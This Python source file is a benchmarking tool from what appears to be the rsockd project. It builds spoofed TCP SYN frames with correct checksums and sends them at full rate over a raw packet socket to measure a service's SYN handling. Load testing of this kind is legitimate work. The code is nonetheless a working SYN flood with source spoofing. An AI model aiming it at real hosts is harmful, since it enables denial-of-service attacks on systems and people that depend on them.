"""A SYN flood for tests and benchmarks: prebuilt frames, ``sendmmsg`` on an ``AF_PACKET`` socket.

    python -m bench.synflood DEV DST_MAC DST_IP PORTS [--seconds T] [--frames N] [--src-net CIDR] [--wait]
                             [--cpu N] [--key KEY | --untagged]

Builds ``N`` Ethernet frames (default 65536), each an IPv4 TCP SYN with an MSS option and
correct checksums to ``DST_IP`` at a port of ``PORTS`` (``a-b`` or ``a,b,...``), from a random
address of ``--src-net`` (default 198.18.0.0/15, the benchmarking block: the victim's replies
can be routed back to the attacker's link with one route) and a random port.  The sequence
number is the SYN tag (``rsockd.core.syntag``) of ``--key`` (default: no key, i.e. the
well-known default key's tag), so rsockd's steering takes the SYNs as rsockd's and its SYN
limit is what is measured; the tags are good for 64-128 s after the build.  ``--untagged``: a
random sequence number instead, i.e. SYNs that port sharing hands to the kernel.  Then it
sends them round and round, flat out, from one thread: each
``sendmmsg(2)`` call hands the kernel 1024 frames, so the Python loop is a few calls per
millisecond and the rate is what one core can push through the kernel's transmit path (on a
veth that includes the peer's XDP, which runs on the sender's CPU).

Prints one JSON line when the frames are built, ``{"event": "ready", "frames": N}``; with
``--wait`` it then waits for a line on stdin before sending.  At the end (after ``T`` seconds,
default 10, or when stdin closes under ``--wait``) it prints
``{"event": "done", "sent": S, "seconds": T', "pps": S/T', "cpu_s": C}``.

Checksums are correct on purpose: a segment with a bad checksum never reaches a UDP socket
after the XDP rewrite, so it would cost the victim nothing but the XDP run.
"""

from __future__ import annotations

import argparse
import ipaddress
import json
import os
import random
import select
import socket
import sys
import time

from bench.mmsg import MsgBatch
from rsockd.core import syntag
from rsockd.core.framing import Keyring
from rsockd.core.packet import SYN, TcpHeader, build_options, ipv4_header, pack_address, pseudo_sum
from rsockd.service.config import parse_ports

ETH_P_IP = 0x0800
SOL_PACKET = 263
PACKET_QDISC_BYPASS = 20
BATCH = 1024  # frames per sendmmsg(2)


def mac_bytes(text: str) -> bytes:
    raw = bytes.fromhex(text.replace(":", "").replace("-", ""))
    if len(raw) != 6:
        raise ValueError(f"{text!r} is not a MAC address")
    return raw


def build_frames(count: int, dst_mac: bytes, src_mac: bytes, dst_ip: str, ports: tuple[int, ...],
                 src_net: ipaddress.IPv4Network, rng: random.Random, tag_key: bytes | None = None) -> list[bytes]:
    """``count`` distinct SYN frames (Ethernet + IPv4 + TCP with MSS and timestamps), checksums
    correct; each TSval the SYN tag of its ISN under ``tag_key`` in the current slot, or random
    when it is None."""
    eth = dst_mac + src_mac + ETH_P_IP.to_bytes(2, "big")
    dst = pack_address(dst_ip)
    base, span = int(src_net.network_address), src_net.num_addresses
    slot = syntag.slot_of(time.time())
    frames = []
    for _ in range(count):
        src = (base + rng.randrange(1, span - 1)).to_bytes(4, "big")
        sport, dport = rng.randrange(1024, 65536), rng.choice(ports)
        isn = rng.getrandbits(32)
        ts = rng.getrandbits(32) if tag_key is None else syntag.syn_tag(tag_key, isn, slot)
        options = build_options(mss=1460, timestamps=(ts, 0))
        seg = TcpHeader(sport, dport, isn, 0, SYN, 64240, options).pack(b"", pseudo_sum(src, dst))
        frames.append(eth + ipv4_header(src, dst, len(seg), ident=rng.getrandbits(16)) + seg)
    return frames


def load_batches(frames: list[bytes]) -> list[MsgBatch]:
    """The frames cut into ``sendmmsg`` batches (all frames have one length)."""
    size = len(frames[0])
    batches = []
    for first in range(0, len(frames), BATCH):
        part = frames[first : first + BATCH]
        b = MsgBatch(len(part), size)
        view = memoryview(b.buf).cast("B")
        for i, frame in enumerate(part):
            view[i * b.stride : i * b.stride + size] = frame
        batches.append(b)
    return batches


def flood(sock: socket.socket, batches: list[MsgBatch], seconds: float, stop_fd: int | None) -> tuple[int, float]:
    """Send the batches round and round for ``seconds`` (or until ``stop_fd`` is readable)."""
    sent = 0
    t0 = time.perf_counter()
    end = t0 + seconds
    rounds = 0
    while True:
        for b in batches:
            try:
                sent += b.send(sock, b.count)
            except OSError as e:  # ENOBUFS when the device queue is full: just go on
                if e.errno not in (105, 11):  # ENOBUFS, EAGAIN
                    raise
        rounds += 1
        now = time.perf_counter()
        if now >= end:
            break
        if stop_fd is not None and rounds % 4 == 0 and select.select([stop_fd], [], [], 0)[0]:
            break
    return sent, time.perf_counter() - t0


def main(argv: list[str]) -> int:
    ap = argparse.ArgumentParser(prog="python -m bench.synflood", description=__doc__.split("\n\n")[0])
    ap.add_argument("dev")
    ap.add_argument("dst_mac")
    ap.add_argument("dst_ip")
    ap.add_argument("ports")
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--frames", type=int, default=65536)
    ap.add_argument("--src-net", default="198.18.0.0/15")
    ap.add_argument("--seed", type=int, default=1)
    ap.add_argument("--wait", action="store_true", help="wait for a line on stdin before sending")
    ap.add_argument("--cpu", type=int, help="run on this CPU only")
    tags = ap.add_mutually_exclusive_group()
    tags.add_argument("--key", help="the tunnel key whose SYN tag the SYNs carry (default: none, the default key)")
    tags.add_argument("--untagged", action="store_true", help="random ISNs: SYNs the kernel gets")
    args = ap.parse_args(argv)
    if args.cpu is not None:
        os.sched_setaffinity(0, {args.cpu})

    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0)  # protocol 0: never receives
    sock.bind((args.dev, 0))
    sock.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
    src_mac = sock.getsockname()[4]
    frames = build_frames(args.frames, mac_bytes(args.dst_mac), src_mac, args.dst_ip, parse_ports(args.ports),
                          ipaddress.IPv4Network(args.src_net), random.Random(args.seed),
                          None if args.untagged else Keyring.from_secret(args.key).syn_key)
    batches = load_batches(frames)
    print(json.dumps({"event": "ready", "frames": len(frames)}), flush=True)
    stop_fd = None
    if args.wait:
        if not sys.stdin.readline():
            return 0
        stop_fd = sys.stdin.fileno()
    cpu0 = os.times()
    sent, secs = flood(sock, batches, args.seconds, stop_fd)
    cpu1 = os.times()
    cpu = (cpu1.user - cpu0.user) + (cpu1.system - cpu0.system)
    print(json.dumps({"event": "done", "sent": sent, "seconds": round(secs, 3), "pps": round(sent / secs),
                      "cpu_s": round(cpu, 2)}), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
